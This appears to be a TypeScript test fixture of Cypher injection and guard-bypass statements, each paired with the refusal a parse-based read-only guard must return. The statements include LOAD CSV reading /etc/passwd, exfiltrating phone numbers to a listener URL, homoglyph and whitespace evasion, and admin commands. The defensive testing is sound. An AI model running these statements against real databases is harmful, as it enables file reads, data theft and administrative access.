/**
 * Hunt statements that got past the old line-by-line text guard (issue 15) or try to: each one is refused
 * by the parse-based guard, and each names what it is refused for. Shared by the CLI, API, pack-import,
 * BloodHound-import and runner tests, so every door is tried with the same attacks. `url` is where a leak
 * would go (a listener of the test that must receive nothing).
 */
export function huntBypasses(url: string): Record<string, { statement: string; refusal: RegExp }> {
  return {
    'bypass-load-csv-split': { statement: `LOAD\nCSV FROM 'file:///etc/passwd' AS row RETURN row`, refusal: /LOAD CSV is not allowed/ },
    'bypass-load-csv-comment': { statement: `MATCH (p:PhoneNumber)\nWITH count(p) AS n\nLOAD /* harmless */ CSV FROM '${url}?n=' + n AS row RETURN row`, refusal: /LOAD CSV is not allowed/ },
    'bypass-load-csv-subquery': { statement: `MATCH (p:PhoneNumber)\nCALL (p) {\n  LOAD CSV FROM '${url}?n=' + p.e164 AS row RETURN row\n}\nRETURN row`, refusal: /LOAD CSV is not allowed/ },
    'bypass-load-csv-lookalike': { statement: `LОAD CSV FROM 'file:///etc/passwd' AS row RETURN row`, refusal: /character U\+041E/ },
    'bypass-nbsp': { statement: `MATCH (p:PhoneNumber)\u00a0RETURN p`, refusal: /character U\+00A0/ },
    'bypass-terminate-split': { statement: `TERMINATE\nTRANSACTIONS 'neo4j-transaction-1'`, refusal: /TERMINATE TRANSACTIONS is an administration command/ },
    'bypass-show-settings': { statement: 'SHOW SETTINGS YIELD name, value RETURN name, value', refusal: /SHOW SETTINGS is an administration command/ },
    'bypass-show-transactions': { statement: 'SHOW\nTRANSACTIONS YIELD currentQuery RETURN currentQuery', refusal: /SHOW TRANSACTIONS is an administration command/ },
    'bypass-use-system': { statement: 'USE system SHOW USERS', refusal: /SHOW USERS is an administration command/ },
    'bypass-use': { statement: 'USE neo4j MATCH (p:PhoneNumber) RETURN p', refusal: /USE is not allowed/ },
    'bypass-backticked-procedure': { statement: 'CALL `db`.`labels`() YIELD label RETURN label', refusal: /without backticks/ },
    'bypass-backticked-namespace': { statement: "CALL `dbms`.listConfig() YIELD name, value RETURN name, value", refusal: /without backticks/ },
    'bypass-list-config': { statement: 'CALL dbms.listConfig() YIELD name, value RETURN name, value', refusal: /procedure dbms\.listConfig is not on the read-only list/ },
    'bypass-in-transactions': { statement: 'MATCH (p:PhoneNumber) CALL (p) { RETURN p.e164 AS e } IN TRANSACTIONS OF 1 ROW RETURN e', refusal: /IN TRANSACTIONS is not allowed/ },
  };
}
